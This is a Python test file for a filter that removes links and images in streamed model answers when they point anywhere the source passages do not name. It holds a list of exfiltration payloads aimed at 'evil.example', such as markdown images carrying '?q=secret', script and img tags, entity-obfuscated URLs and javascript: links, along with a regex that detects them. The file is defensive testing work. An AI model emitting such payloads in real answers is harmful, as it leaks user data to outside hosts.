"""Nothing that a model says makes a browser fetch what the passages do not name; all else stays, and comes at once."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from resources.conversations.answering.containing import LEFT_OUT, contained
from tests.factories.passages import passage

KNOWN = "Ask at https://mill.example/help, or see http://docs.example/a?b=1#c. Write to //cdn.example/x too."
EVIL = "https://evil.example/?q=secret"
POISON = [
    f"![chart]({EVIL})",
    f"![chart][x]\n\n[x]: {EVIL}",
    f"[click]({EVIL})",
    f"[click]( <{EVIL}> 'now')",
    f"[x]: {EVIL}",
    f"[x]: <{EVIL}>",
    f"<{EVIL}>",
    EVIL,
    f"see {EVIL}.",
    f"<img src='{EVIL}'>",
    f'<IMG\nSRC="{EVIL}">',
    f"<script src={EVIL}></script>",
    f"<a href='{EVIL}'>x</a>",
    f'<td background="{EVIL}">',
    f"![a\nb]({EVIL})",
    "![x](//evil.example/p.png)",
    "[x](//evil.example/p)",
    "[x](https&#58;//evil.example/p)",
    "[x](https&colon;//evil.example/p)",
    "[x]: https&#58;//evil.example/p",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "[x](\\\\evil.example/p)",
    f"`never closed ![x]({EVIL})",
    "https://mill.example/help?q=secret",
    "ftp://evil.example/secret",
    f"!\\[x]({EVIL})",
    f"**{EVIL}**",
    f"[![x]({EVIL})]({EVIL})",
]
LEADING_OUT = re.compile(
    r"evil\.example(?![^`\n]*`)|!\[|<(?:img|script|a|td)\b|javascript|data:image|q=secret", re.IGNORECASE
)  # fmt: skip


def told(text: str, *, step: int = 3) -> str:
    words = [text[at : at + step] for at in range(0, len(text), step)]
    return "".join(contained(words, [passage(1, KNOWN)]))


@pytest.mark.parametrize("text", POISON)
@pytest.mark.parametrize("step", [1, 7, 1000])
def test_nothing_leads_where_no_passage_leads(text: str, step: int) -> None:
    assert not LEADING_OUT.search(told(f"As told: {text}\nEnd.", step=step)), told(text)


@pytest.mark.parametrize(
    "text",
    [
        "The sluice gate is greased every second Monday. [1]\n\nBy the engineer [2, 3].",
        "Ask at https://mill.example/help, or see [the docs](http://docs.example/a?b=1#c).",
        "a < b and c > d, x[i] != y[j], and/or; 3 // 4 = 0",
        "```html\n<img src='https://evil.example/x'>\n```\nSo it is.",
        'Write `<img src="https://any.example">` there.',
        "[Section](#care) and [passage](/v1/documents/7)",
        "- [ ] to do\n- [x] done!",
        "Wow! [1] Really?! [2]",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "",
    ],
)
@pytest.mark.parametrize("step", [1, 5, 1000])
def test_what_leads_nowhere_else_stays_letter_for_letter(text: str, step: int) -> None:
    assert told(text, step=step) == text


def test_an_image_of_a_passage_becomes_a_link_and_an_unknown_link_its_text() -> None:
    assert told("![help](https://mill.example/help)") == "[help](https://mill.example/help)"
    assert told(f"Read [the manual]({EVIL}) now.") == "Read the manual now."
    assert told(f"Read {EVIL} now.") == f"Read {LEFT_OUT} now."


def test_words_come_as_they_are_spoken() -> None:
    spoken: list[str] = []

    def words() -> list[str]:
        return ["The ", "sluice ", "is ", "greased. ", "[1]"]

    for word in contained(iter(words()), []):
        spoken.append(word)
    assert spoken == ["The ", "sluice ", "is ", "greased. ", "[1]"]


@given(st.text(alphabet="ab ![]()<>`\n/:h.#&;", max_size=80), st.integers(1, 9))
def test_how_the_words_are_cut_makes_no_difference(text: str, step: int) -> None:
    assert told(text, step=step) == told(text, step=1000)
